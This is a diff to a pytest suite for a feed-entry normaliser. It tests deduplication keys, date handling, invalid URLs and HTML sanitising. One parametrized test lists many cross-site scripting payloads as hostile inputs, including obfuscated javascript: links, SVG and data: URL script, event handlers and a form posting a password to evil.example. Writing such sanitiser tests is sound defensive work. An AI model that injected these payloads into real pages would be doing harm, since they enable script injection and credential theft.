@@ -204,7 +204,12 @@ def test_normalize_entries_skips_empty_and_repeated_keys() -> None:
         ),
     )
     entries = normalize_entries(feed, CONTEXT)
-    assert [(e.entry_key, e.title) for e in entries] == [("a", "First"), ("b", "Third")]
+    # Nothing is lost: two items with one guid and one link are told apart by their title.
+    assert [(e.entry_key, e.title) for e in entries] == [
+        ("a | title: First", "First"),
+        ("a | title: Second copy with the same guid", "Second copy with the same guid"),
+        ("b", "Third"),
+    ]
     assert entries[0].language == "ko"
 
 
@@ -224,3 +229,170 @@ def test_relative_urls_resolve_against_site_then_entry_page_and_xml_base_wins() 
     assert 'href="https://cdn.x.org/p/b"' in based.content
     no_site = normalize_entry(parsed(link="/a"), feed_url, FEED)
     assert no_site.link == "http://127.0.0.1:9/a"
+
+
+# --- hostile input (issue 7) -----------------------------------------------------------
+
+
+def feed_of(*entries: ParsedEntry) -> ParsedFeed:
+    return replace(FEED, entries=entries)
+
+
+def test_items_sharing_a_guid_are_told_apart_by_link_and_stay_stable() -> None:
+    items = [parsed(guid="same", link=f"https://example.org/{n}", title=f"T{n}") for n in (1, 2)]
+    entries = normalize_entries(feed_of(*items), CONTEXT)
+    assert [e.entry_key for e in entries] == [
+        "same | link: https://example.org/1",
+        "same | link: https://example.org/2",
+    ]
+    # the next fetch, with the titles edited, keeps the keys: no new entries
+    edited = [replace(item, title=item.title + " (edited)") for item in items]
+    again = normalize_entries(feed_of(*edited), CONTEXT)
+    assert [e.entry_key for e in again] == [e.entry_key for e in entries]
+
+
+def test_items_sharing_a_link_without_guids_are_told_apart() -> None:
+    items = [parsed(guid=None, link="https://example.org/", title=f"T{n}") for n in (1, 2, 3)]
+    entries = normalize_entries(feed_of(*items), CONTEXT)
+    assert len({e.entry_key for e in entries}) == 3
+
+
+def test_an_item_listed_twice_is_kept_once() -> None:
+    entries = normalize_entries(feed_of(parsed(), parsed(), parsed(guid="g2")), CONTEXT)
+    assert [e.entry_key for e in entries] == ["g1 | content: " + entries[0].content_hash, "g2"]
+
+
+def test_same_title_same_link_different_text_is_told_apart_by_content() -> None:
+    items = [parsed(guid="x", summary="<p>one</p>"), parsed(guid="x", summary="<p>two</p>")]
+    entries = normalize_entries(feed_of(*items), CONTEXT)
+    assert len({e.entry_key for e in entries}) == 2
+
+
+HOSTS = frozenset({"youtube.com", "youtube-nocookie.com", "player.vimeo.com"})
+
+
+@pytest.mark.parametrize(
+    "markup",
+    [
+        "<script>alert(1)</script>",
+        '<a href="javascript:alert(1)">x</a>',
+        '<a href="&#106;avascript:alert(1)">x</a>',
+        '<a href="&#x6A;&#x61;vascript&colon;alert(1)">x</a>',
+        '<a href="java\tscript:alert(1)">x</a>',
+        '<a href=" JaVaScRiPt:alert(1)">x</a>',
+        '<a href="vbscript:msgbox(1)">x</a>',
+        '<img src="data:image/svg+xml;base64,PHN2Zz48c2NyaXB0PmFsZXJ0KDEpPC9zY3JpcHQ+PC9zdmc+">',
+        '<a href="data:text/html,<script>alert(1)</script>">x</a>',
+        '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
+        "<svg onload=alert(1)><use href=\"data:image/svg+xml,<svg id='x'/>#x\"/></svg>",
+        '<math><a xlink:href="javascript:alert(1)">x</a></math>',
+        '<form action="https://evil.example/steal"><input name="pw"><button>go</button></form>',
+        '<img src="x.png" onerror="alert(1)">',
+        '<p onclick="alert(1)" style="background:url(javascript:alert(1))">x</p>',
+        '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x">',
+        '<meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/">',
+        "<style>body{background:url(javascript:alert(1))}</style>",
+        '<iframe src="https://evil.example/"></iframe>',
+        '<iframe src="javascript:alert(1)"></iframe>',
+        '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+        '<iframe src="http://www.youtube.com/embed/x"></iframe>',  # not https
+        '<iframe src="https://youtube.com.evil.example/embed/x"></iframe>',
+        '<iframe src="https://user@evil.example@youtube.com/embed/x"></iframe>',
+        '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+        "<![CDATA[<script>alert(1)</script>]]>",
+        "<!-- <script>alert(1)</script> -->",
+    ],
+)
+def test_sanitize_html_leaves_no_live_script(markup: str) -> None:
+    cleaned = sanitize_html(markup, "https://example.org/news/", HOSTS)
+    lowered = cleaned.lower()
+    for live in ("<script", "javascript:", "vbscript:", "data:", " on", "<svg", "<math", "<form"):
+        assert live not in lowered, (markup, cleaned)
+    for dead in ("<input", "<object", "<embed", "<meta", "<base", "<style", "evil.example/"):
+        assert dead not in lowered, (markup, cleaned)
+    assert "<iframe" not in lowered, (markup, cleaned)
+
+
+def test_allowed_iframes_are_kept_sandboxed_and_empty() -> None:
+    markup = (
+        '<iframe src="https://www.youtube.com/embed/abc?rel=0&amp;x=1" width="560" height="315" '
+        'title="Webinar &quot;4&quot;" onload="alert(1)" allowfullscreen frameborder="0">'
+        "<script>alert(1)</script>fallback</iframe>"
+        '<iframe src="//player.vimeo.com/video/1" width="100%"></iframe>'
+    )
+    cleaned = sanitize_html(markup, "https://example.org/news/", HOSTS)
+    assert cleaned == (
+        '<iframe src="https://www.youtube.com/embed/abc?rel=0&amp;x=1" width="560" '
+        'height="315" title="Webinar &quot;4&quot;" allowfullscreen="" '
+        'sandbox="allow-scripts allow-same-origin allow-popups allow-presentation" '
+        'referrerpolicy="strict-origin-when-cross-origin" loading="lazy"></iframe>'
+        '<iframe src="https://player.vimeo.com/video/1" '
+        'sandbox="allow-scripts allow-same-origin allow-popups allow-presentation" '
+        'referrerpolicy="strict-origin-when-cross-origin" loading="lazy"></iframe>'
+    )
+    # without an allowlist no iframe survives, and its raw text stays inert text
+    no_hosts = sanitize_html(markup, "https://example.org/news/")
+    assert "<iframe" not in no_hosts and "<script" not in no_hosts
+
+
+def test_deeply_nested_html_keeps_its_text_and_is_fast() -> None:
+    markup = "<div>" * 100_000 + "deep text" + "</div>" * 100_000
+    cleaned = sanitize_html(markup, "https://example.org/")
+    assert cleaned == "deep text"
+    shallow = "<div><blockquote><p>a<p>b<ul><li>c<li>d</ul></blockquote></div>" * 300
+    assert sanitize_html(shallow, "https://example.org/").count("<blockquote>") == 300
+
+
+def test_stray_close_tags_do_not_hide_the_depth() -> None:
+    markup = "<div></span>" * 1000 + "x"
+    assert "<div>" not in sanitize_html(markup, "https://example.org/")
+
+
+@pytest.mark.parametrize(
+    "date",
+    [
+        datetime(1970, 1, 1, tzinfo=UTC),
+        datetime(1899, 11, 30, tzinfo=UTC),
+        datetime(1, 1, 1, tzinfo=timezone(timedelta(hours=5))),
+        datetime(1, 1, 1),
+        datetime(9999, 12, 31, 23, 59, tzinfo=timezone(timedelta(hours=-5))),
+        datetime(3000, 1, 1, tzinfo=UTC),
+    ],
+)
+def test_placeholder_and_absurd_dates_become_the_fetch_time(date: datetime) -> None:
+    entry = normalize_entry(parsed(published=date, updated=date), CONTEXT, FEED)
+    assert entry.published == FETCHED and entry.updated == FETCHED
+    assert entry.published_is_guess
+
+
+# Found by tests/test_fuzz.py: each once took a whole feed down (or crashed nh3).
+
+
+@pytest.mark.parametrize("bad", ["https://[::1", "http://example.org:99999/a", "http://[x]/"])
+def test_an_invalid_url_costs_only_that_url(bad: str) -> None:
+    entry = normalize_entry(
+        parsed(
+            link=bad,
+            thumbnail=bad,
+            enclosures=(Enclosure(bad), Enclosure("https://e.org/r.pdf")),
+            content=f'<a href="{bad}">a</a><img src="{bad}">',
+        ),
+        CONTEXT,
+        replace(FEED, link=bad),
+    )
+    assert entry.link is None and entry.thumbnail is None
+    assert [e.url for e in entry.enclosures] == ["https://e.org/r.pdf"]
+    assert "[" not in entry.content
+    based = normalize_entry(parsed(base=bad, link="a"), CONTEXT, FEED)
+    assert based.link == "https://www.smartcitiesworld.net/rss/a"
+
+
+def test_lone_surrogates_in_titles_do_not_reach_nh3() -> None:
+    assert plain_text("a\ud800b") == "ab"
+    entry = normalize_entry(parsed(title="<b>x\ud800</b>", title_is_html=True), CONTEXT, FEED)
+    assert entry.title == "x"
+
+
+def test_a_base_with_another_scheme_makes_no_link() -> None:
+    cleaned = sanitize_html('<a href="x">x</a>', "javascript:alert(1)//")
+    assert "javascript" not in cleaned
